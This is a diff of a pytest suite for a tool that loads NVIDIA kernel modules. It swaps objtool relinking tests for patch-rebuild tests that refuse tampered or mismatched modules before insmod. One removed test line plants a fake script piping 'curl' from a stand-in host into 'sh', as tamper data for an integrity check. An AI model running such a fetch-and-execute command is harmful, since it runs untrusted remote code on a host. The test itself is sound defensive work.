@@ -9,12 +9,11 @@ import pytest
 
 from gl_nvidia.node.decide import NodeError
 from gl_nvidia.node.host import Result
+from gl_nvidia.node.image import PULL_AGAIN, sha256_file
 from gl_nvidia.node.runtime import DRIVER_ROOT, READY_FILE, STAGING_DIR, STATE_FILE, Runtime
 from tests.fixtures.node import (
-    BUILD_LIBELF,
     BUILD_LINKER,
     KERNEL,
-    OBJTOOL_ARGS,
     FakeHost,
     FakeKernel,
     fake_node,
@@ -487,78 +486,63 @@ def test_a_link_that_differs_from_the_builds_is_refused_before_insmod(tmp_path: 
     assert not list(rt.host.path(STAGING_DIR).rglob("*.ko*"))
 
 
-def _ibt_node(tmp_path: Path, tree: str = "h100", libelf: str = BUILD_LIBELF) -> tuple[Runtime, FakeKernel]:
-    """A node whose image holds IBT modules: the kernel's objtool runs between the two links."""
-    image = make_image(tmp_path / "img", kernels={KERNEL: ("proprietary",)}, objtool=True)
-    rt, k = fake_node(tmp_path, tree, image=image)
-    k.linker = BUILD_LINKER
-    lib = rt.host.path("/usr/lib/x86_64-linux-gnu")
-    lib.mkdir(parents=True, exist_ok=True)
-    (lib / libelf).write_bytes(b"")
-    (lib / "libelf.so.1").symlink_to(libelf)
-    return rt, k
+def _ibt_node(tmp_path: Path, tree: str = "h100") -> tuple[Runtime, FakeKernel]:
+    """A node whose image holds IBT modules: each the build's patch from NVIDIA's binary object."""
+    image = make_image(tmp_path / "img", kernels={KERNEL: ("proprietary",)}, patched=True)
+    return fake_node(tmp_path, tree, image=image)
 
 
-def test_ibt_modules_run_the_kernels_objtool_between_kbuilds_two_links(tmp_path: Path) -> None:
+def test_ibt_modules_are_rebuilt_from_their_patch_without_ld_or_objtool(tmp_path: Path) -> None:
     rt, k = _ibt_node(tmp_path)
     rt.init()
     calls = k.names()
+    assert not [c for c in calls if c.split()[0] in ("ld", "objtool", "ldd")]
     image_dir = rt.image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary")
     staging = rt.host.path(STAGING_DIR) / KERNEL / "proprietary"
-    obj = f"{staging}/.nvidia.ko.tmp.o"
-    i = calls.index(f"ld -m elf_x86_64 -r -o {obj} {image_dir}/nvidia.o "
-                    f"{rt.image.at('/usr/lib/gl-nvidia/binaries/proprietary')}/nv-kernel.o")
-    assert calls[i + 1] == f"{image_dir}/objtool {' '.join(OBJTOOL_ARGS)} {obj}"
-    assert calls[i + 2] == (f"ld -r -m elf_x86_64 --build-id=sha1 -T {image_dir}/module.lds -o {staging}/.nvidia.ko.tmp "
-                            f"{obj} {image_dir}/nvidia.final.o")
-    # the result is byte for byte the build's (checked: same linker and libelf), then inserted from staging
-    assert any("objtool=yes sha256=\"the build's\"" in line for line in rt.log.lines)
+    # byte for byte the module the build gated, then inserted from staging
+    record = rt.image.record(KERNEL, "proprietary", "nvidia")
+    assert record is not None and sha256_file(staging / "nvidia.ko") == record.sha256
+    assert any("module rebuilt from its patch" in line and "sha256=\"the build's\"" in line for line in rt.log.lines)
     inserted = [c.split()[1] for c in calls if c.startswith("insmod")]
     assert inserted == [f"{staging}/nvidia.ko", f"{image_dir}/nvidia-uvm.ko", f"{staging}/nvidia-modeset.ko"]
-    assert sorted(p.name for p in staging.iterdir()) == ["nvidia-modeset.ko", "nvidia.ko"]  # no <module>.o left
+    assert sorted(p.name for p in staging.iterdir()) == ["nvidia-modeset.ko", "nvidia.ko"]
 
 
-def test_an_objtool_result_other_than_the_builds_is_refused_before_insmod(tmp_path: Path) -> None:
+def test_a_patch_result_other_than_the_builds_is_refused_before_insmod(tmp_path: Path) -> None:
     rt, k = _ibt_node(tmp_path)
-    k.objtool_output = b"+annotated otherwise"  # the same verified inputs, other bytes out of objtool
+    # another build's binary object, and a manifest that agrees with it (not with the module the build gated)
+    binary = rt.image.at("/usr/lib/gl-nvidia/binaries/proprietary") / "nv-kernel.o"
+    binary.write_bytes(binary.read_bytes().upper())  # as long as the build's: the patch fits, other bytes out
+    rt.image = reseal(rt.image)
     with pytest.raises(NodeError) as exc:
         rt.init()
-    assert exc.value.message.startswith("nvidia.ko linked on this node (sha256 ")
-    assert f"with the same linker ({BUILD_LINKER}, objtool with {BUILD_LIBELF}); refusing to load it" in exc.value.message
+    assert exc.value.message.startswith("nvidia.ko rebuilt on this node (sha256 ")
+    assert exc.value.message.endswith("differs from the module the build linked and gated "
+                                      f"(sha256 {rt.image.record(KERNEL, 'proprietary', 'nvidia').sha256[:16]}); "  # type: ignore[union-attr]
+                                      "refusing to load it")
     assert not any(c.startswith("insmod") for c in k.names())
     assert not list(rt.host.path(STAGING_DIR).rglob("*.ko*"))
 
 
-def test_an_altered_objtool_in_the_image_is_refused_before_it_runs(tmp_path: Path) -> None:
+def test_an_altered_patch_in_the_image_is_refused_before_it_is_applied(tmp_path: Path) -> None:
     rt, k = _ibt_node(tmp_path)
-    tool = rt.image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary") / "objtool"
-    tool.write_text("#!/bin/sh\ncurl http://example.invalid | sh\n")
+    (rt.image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary") / "nvidia.patch").write_bytes(b"GLNVPAT1 other")
     with pytest.raises(NodeError) as exc:
         rt.init()
-    assert exc.value.message.startswith(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary/objtool has sha256 ")
+    assert exc.value.message.startswith(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary/nvidia.patch has sha256 ")
     assert exc.value.message.endswith("; refusing to load nvidia.ko")
-    assert not [c for c in k.names() if c.split()[0] in ("insmod", "ld") or c.split()[0].endswith("/objtool")]
+    assert not any(c.startswith("insmod") for c in k.names())
+    assert not list(rt.host.path(STAGING_DIR).rglob("*.ko*"))
 
 
-def test_objtool_with_another_libelf_still_must_give_the_builds_vermagic_and_srcversion(tmp_path: Path) -> None:
-    rt, k = _ibt_node(tmp_path, tree="no-gpu", libelf="libelf-0.191.so")
-    k.objtool_output = b"+written by another libelf"
-    rt.check_load()  # other bytes are expected from another libelf: vermagic and srcversion decide
-    make_ko(rt.image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary") / "nvidia.o", version="535.309.01",
-            srcversion="proprietary-nvidia", vermagic="6.12.111+deb12-cloud-amd64 SMP mod_unload modversions ")
-    rt.image = reseal(rt.image)
-    with pytest.raises(NodeError, match=r"^nvidia.ko linked from this image's parts has vermagic 6\.12\.111"):
-        rt.check_load()
-
-
-def test_a_failing_objtool_is_one_error_and_leaves_nothing_staged(tmp_path: Path) -> None:
+def test_a_damaged_patch_is_one_error_and_leaves_nothing_staged(tmp_path: Path) -> None:
     rt, k = _ibt_node(tmp_path)
-    k.fail["objtool"] = Result(1, "", "objtool: error while loading shared libraries: libelf.so.1: cannot open\n")
+    (rt.image.at(f"/usr/lib/gl-nvidia/modules/{KERNEL}/proprietary") / "nvidia.patch").write_bytes(b"not a patch")
+    rt.image = reseal(rt.image)  # a patch the build itself got wrong: its manifest agrees with it
     with pytest.raises(NodeError) as exc:
         rt.init()
-    assert exc.value.message == (f"could not link nvidia.ko for kernel {KERNEL} from its parts: "
-                                 "objtool: error while loading shared libraries: libelf.so.1: cannot open")
-    assert exc.value.hint == "the image needs a working ld (binutils) and, for objtool, libelf"
+    assert exc.value.message == f"could not rebuild nvidia.ko for kernel {KERNEL} from its patch: not a module patch"
+    assert exc.value.hint == PULL_AGAIN
     assert not any(c.startswith("insmod") for c in k.names())
     assert not [p for p in rt.host.path(STAGING_DIR).rglob("*") if p.is_file()]
 
